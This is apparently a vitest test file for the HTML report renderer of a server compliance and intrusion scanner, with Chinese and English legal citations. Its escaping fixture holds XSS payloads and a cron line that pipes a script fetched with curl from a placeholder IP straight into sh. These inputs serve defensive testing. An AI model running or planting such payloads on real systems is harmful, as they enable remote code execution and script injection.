import { describe, expect, it } from 'vitest';
import type { Report } from '../core/finding.ts';
import { formatWhere } from '../core/where.ts';
import { escapeHtml, HTML_CSP, renderHtml } from './html.ts';
import { cleanReport, sampleReport, UNVERIFIED_FIGURE } from './sample-report.ts';

const ZH_LIABILITY = { administrative: '行政责任', civil: '民事责任', criminal: '刑事责任' } as const;

/** The finding <article> whose heading contains the (escaped) title. */
function article(html: string, title: string): string {
  const at = html.indexOf(escapeHtml(title));
  expect(at, title).toBeGreaterThan(-1);
  return html.slice(html.lastIndexOf('<article', at), html.indexOf('</article>', at));
}

function hostile(): Report {
  const r = sampleReport('zh');
  const x = '<script>alert(1)</script>';
  const f = r.findings[1]!;
  f.title = `标题${x}`;
  f.message = `*/5 * * * * curl http://203.0.113.9/a|sh ${x} <img src=x onerror=alert(2)>`;
  f.where = [
    { path: `/var/www/${x}.php`, line: 1 },
    { pid: 7, command: `"><script>alert(3)</script>` },
  ];
  f.legal[0]!.citation = `《网络安全法》${x}`;
  f.remediation = `删除 ${x}\n第二行 </dd></dl><script>alert(4)</script>`;
  r.host.hostname = `web" onmouseover="alert(5)`;
  r.checks.find((c) => c.outcome === 'error')!.reason = x;
  r.gaps[0]!.path = `/tmp/${x}`;
  return r;
}

describe('HTML report', () => {
  const report = sampleReport('zh');
  const html = renderHtml(report);

  it('is one self-contained document that loads nothing', () => {
    expect(html.startsWith('<!doctype html>\n<html lang="zh-CN">')).toBe(true);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${HTML_CSP}">`);
    expect(HTML_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(html).toContain('<meta charset="utf-8">');
    for (const forbidden of [
      /<script/i,
      /<link/i,
      /<img/i,
      /<iframe/i,
      /<object/i,
      /<embed/i,
      /\ssrc=/i,
      /url\(/i,
      /@import/i,
    ])
      expect(html).not.toMatch(forbidden);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!);
    expect(hrefs.length).toBeGreaterThan(3);
    for (const href of hrefs) expect(href).toMatch(/^#[a-z-]+$/);
  });

  it('escapes attacker-controlled strings everywhere', () => {
    const out = renderHtml(hostile());
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/<img/i);
    expect(out).not.toContain('" onmouseover="');
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('web&quot; onmouseover=&quot;alert(5)');
    expect(out).toContain('&lt;img src=x onerror=alert(2)&gt;');
    expect(out).toContain('pid 7 (&quot;&gt;&lt;script&gt;alert(3)&lt;/script&gt;)');
    expect(out).toContain(
      '删除 &lt;script&gt;alert(1)&lt;/script&gt;<br>第二行 &lt;/dd&gt;&lt;/dl&gt;&lt;script&gt;',
    );
    // the document structure is intact: the same number of findings as before
    expect(out.match(/<article /g)).toHaveLength(report.findings.length);
  });

  it('makes control and bidi characters visible', () => {
    const r = sampleReport('zh');
    r.findings[0]!.message = 'a\u202eb\x1b[2Jc\nd';
    const out = renderHtml(r);
    expect(out).toContain('a\\u202eb\\x1b[2Jc\\nd');
    expect(out).not.toMatch(/[\u202e\x1b]/);
  });

  it('shows each finding with title, message, locations, citations with liability, and remediation', () => {
    for (const f of report.findings) {
      const a = article(html, f.title);
      expect(a).toContain(escapeHtml(f.message));
      expect(a).toContain(f.checkId);
      for (const w of f.where) expect(a).toContain(`<code>${escapeHtml(formatWhere(w))}</code>`);
      for (const l of f.legal) {
        const li = a.slice(
          a.lastIndexOf('<li', a.indexOf(escapeHtml(l.citation))),
          a.indexOf('</li>', a.indexOf(escapeHtml(l.citation))),
        );
        if (l.party === 'operator')
          for (const k of l.liability)
            expect(li).toContain(`<span class="liab liab-${k}">${ZH_LIABILITY[k]}</span>`);
        else expect(li).toBe(`<li class="intruder">${escapeHtml(l.statement)}`);
      }
      expect(a).toContain(f.remediation.split('\n').map(escapeHtml).join('<br>'));
    }
  });

  it('shows an intruder citation as conduct that may meet the threshold, never as criminal liability', () => {
    const a = article(html, report.findings.find((f) => f.checkId === 'cron-remote-script-found')!.title);
    expect(a).toContain(
      '<li class="intruder">如系他人入侵所为，入侵者的行为可能达到《刑法》第二百八十六条规定的入罪标准(由司法机关认定)</li>',
    );
    expect(a).toContain(
      '<li>《网络安全法》第二十七条(原第二十五条)<span class="liab liab-administrative">行政责任</span></li>',
    );
    // the sample cites the Criminal Law only for intruders: no criminal-liability badge anywhere
    expect(html).not.toContain('liab-criminal">');
    expect(renderHtml(sampleReport('en'))).not.toContain('liab-criminal">');
  });

  it("sums up the operator's liability apart from the intruder's possible exposure", () => {
    const ex = html.slice(html.indexOf('id="exposure"'));
    expect(ex).toContain('<span class="liab liab-administrative">行政责任</span></td><td class="num">8</td>');
    expect(ex).not.toContain('刑事责任</span>');
    expect(ex).toContain(
      '<p class="intruder">另有 3 项发现指向入侵迹象:如系他人入侵所为,入侵者可能承担刑事责任(由司法机关认定),这不是运营者的责任。</p>',
    );
    const benign = {
      ...report,
      findings: report.findings.filter((f) => f.legal.every((l) => l.party === 'operator')),
    };
    expect(renderHtml(benign)).not.toContain('class="intruder"');
  });

  it('lists each operator provision once, with duty holders and penalties as their status allows', () => {
    const dl = html.slice(
      html.indexOf('<dl class="penalties">'),
      html.indexOf('</dl>', html.indexOf('<dl class="penalties">')),
    );
    expect([...dl.matchAll(/<dt>([^<]*)<\/dt>/g)].map((m) => m[1])).toEqual([
      '《网络安全法》第二十三条(原第二十一条)',
      '《网络安全法》第二十七条(原第二十五条)',
      '《网络安全法》第六十一条(原第五十九条)',
      '《个人信息保护法》第五十一条',
      '《个人信息保护法》第六十九条',
      '《网络数据安全管理条例》第九条',
      '《关于整治虚拟货币&quot;挖矿&quot;活动的通知》(发改运行〔2021〕1283号)',
    ]);
    expect(dl).not.toContain('刑法');
    expect(dl).not.toContain('入侵者');
    expect(dl).toContain(
      '<dt>《网络安全法》第六十一条(原第五十九条)</dt><dd><p>义务人: 网络运营者、关键信息基础设施运营者</p><ul><li>[2026-01-01 起的行为] 第六十一条第一款：',
    );
    expect(dl).toContain('<li>据公开解读，[2026-01-01 起的行为] 第六十一条(加重情形)：');
    expect(dl).toContain(
      '<li>[2026-01-01 起的行为] 加重档次是否适用于非关键信息基础设施运营者：未经核实,不作为事实引用</li>',
    );
    for (const lang of ['zh', 'en'] as const)
      expect(renderHtml(sampleReport(lang))).not.toContain(UNVERIFIED_FIGURE);
    const en = renderHtml(sampleReport('en'));
    expect(en).toContain('<li>Reported: [conduct from 2026-01-01] Art. 61 (aggravated cases): ');
    expect(en).toContain('<p>Duty holders: personal information handlers</p>');
    expect(renderHtml(cleanReport('zh'))).not.toContain('class="penalties"');
  });

  it('groups findings by severity, critical first', () => {
    const order = ['critical', 'high', 'medium', 'low', 'info'].map((s) => html.indexOf(`id="sev-${s}"`));
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    for (const f of report.findings) {
      const at = html.indexOf(escapeHtml(f.title));
      const mine = html.lastIndexOf('<section class="c-', at);
      expect(html.slice(mine, mine + 60)).toContain(`id="sev-${f.severity}"`);
    }
    expect(html).toContain('<h3 class="sev-title">严重 (2)</h3>');
  });

  it('opens with the intrusion banner when there are signs of intrusion, and only then', () => {
    const main = html.slice(html.indexOf('<main>'));
    expect(main.indexOf('class="intrusion"')).toBeLessThan(main.indexOf('<header>'));
    expect(main).toContain('警告:该服务器存在被入侵的迹象');
    expect(main).toContain('hegui capture --output evidence.tar.gz');
    expect(main).toContain('hegui incident open --from report.json');
    const benign = { ...report, findings: report.findings.filter((f) => f.category === 'database-exposed') };
    expect(renderHtml(benign)).not.toContain('class="intrusion"');
    expect(renderHtml(cleanReport('zh'))).not.toContain('被入侵');
  });

  it('lists not-assessed checks, gaps, exposure by law and liability, and check totals', () => {
    const na = html.slice(html.indexOf('id="not-assessed"'), html.indexOf('id="gaps"'));
    expect(na).toContain(
      '<code>log-journald-disabled</code></td><td>未评估</td><td>/var/log/journal: permission-denied',
    );
    expect(na).toContain('<code>webshell-php-found</code></td><td>出错</td>');
    const gaps = html.slice(html.indexOf('id="gaps"'), html.indexOf('id="exposure"'));
    expect(gaps).toContain('<code>/var/log/journal</code></td><td>无读取权限</td><td>logging</td>');
    const ex = html.slice(html.indexOf('id="exposure"'));
    expect(ex).toContain('<td>《网络安全法》</td><td class="num">6</td>');
    expect(ex).toContain('<td>《刑法》</td><td class="num">3</td>');
    expect(ex).toContain('<span class="liab liab-civil">民事责任</span></td><td class="num">1</td>');
    expect(ex).toContain(
      '<td class="num">4</td><td class="num">9</td><td class="num">1</td><td class="num">1</td>',
    );
  });

  it('is in English with report.lang en', () => {
    const en = renderHtml(sampleReport('en'));
    expect(en.startsWith('<!doctype html>\n<html lang="en">')).toBe(true);
    for (const s of [
      'WARNING: this server shows signs of intrusion',
      'Legal basis',
      'Remediation',
      'Checks not assessed',
    ])
      expect(en).toContain(s);
    expect(en).toContain(
      '<li class="intruder">If someone broke in to do this, the intruder&#39;s conduct may meet the threshold of Criminal Law Art. 285 para. 2 (for a court to decide)</li>',
    );
    expect(en).toContain('<span class="liab liab-civil">civil liability</span>');
    expect(en).toContain('<p class="intruder">3 finding(s) point to intrusion: ');
    expect(en).toContain('<td>Cybersecurity Law</td><td class="num">6</td>');
    for (const zh of ['法律依据', '整改建议', '行政责任', '未评估', '按法律', '主机'])
      expect(en).not.toContain(zh);
  });

  it('is deterministic', () => {
    expect(renderHtml(sampleReport('zh'))).toBe(html);
  });
});
